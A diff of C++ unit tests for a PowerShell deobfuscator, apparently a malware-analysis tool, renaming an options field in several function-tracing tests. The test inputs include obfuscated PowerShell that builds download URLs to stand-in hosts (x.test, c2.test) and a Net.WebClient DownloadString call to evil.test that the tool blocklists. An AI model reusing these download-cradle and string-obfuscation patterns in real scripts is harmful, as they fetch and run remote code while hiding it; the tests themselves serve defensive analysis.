@@ -71,8 +71,8 @@ TEST(FunctionTracing, FlagEnablesFunctionChains) {
   const std::string src =
       "function Decode($s) { return ($s.Replace('Z','t')) }\n"
       "Write-Host (Decode 'hZZp://x.Zest/a.ps1')";
-  DeobfuscationOptions opts;
-  opts.trace_functions = true;
+  Options opts;
+  opts.recovery.trace_functions = true;
   InvokeDeobfuscator deobf(opts);
   const std::string out = deobf.deobfuscate(src);
   EXPECT_NE(out.find("http://x.test/a.ps1"), std::string::npos) << out;
@@ -84,8 +84,8 @@ TEST(FunctionTracing, NestedFunctionCalls) {
       "function Outer($s) { return (Inner ($s + '/stage')) }\n"
       "$target = Outer 'http://c2.test'\n"
       "Write-Host $target";
-  DeobfuscationOptions opts;
-  opts.trace_functions = true;
+  Options opts;
+  opts.recovery.trace_functions = true;
   InvokeDeobfuscator deobf(opts);
   const std::string out = deobf.deobfuscate(src);
   EXPECT_NE(out.find("http://c2.test/stage.ps1"), std::string::npos) << out;
@@ -96,8 +96,8 @@ TEST(FunctionTracing, BlocklistStillApplies) {
       "function Fetch($u) { return ((New-Object Net.WebClient)."
       "DownloadString($u)) }\n"
       "Write-Host (Fetch 'http://evil.test/x')";
-  DeobfuscationOptions opts;
-  opts.trace_functions = true;
+  Options opts;
+  opts.recovery.trace_functions = true;
   InvokeDeobfuscator deobf(opts);
   const std::string out = deobf.deobfuscate(src);
   // The network call is blocklisted: the piece must be kept, not executed.
@@ -109,8 +109,8 @@ TEST(FunctionTracing, ConditionallyDefinedFunctionsAreNotTraced) {
   const std::string src =
       "if ($true) { function Decode($s) { return ($s + 'x') } }\n"
       "Write-Host (Decode 'marker-')";
-  DeobfuscationOptions opts;
-  opts.trace_functions = true;
+  Options opts;
+  opts.recovery.trace_functions = true;
   InvokeDeobfuscator deobf(opts);
   const std::string out = deobf.deobfuscate(src);
   EXPECT_EQ(out.find("'marker-x'"), std::string::npos) << out;
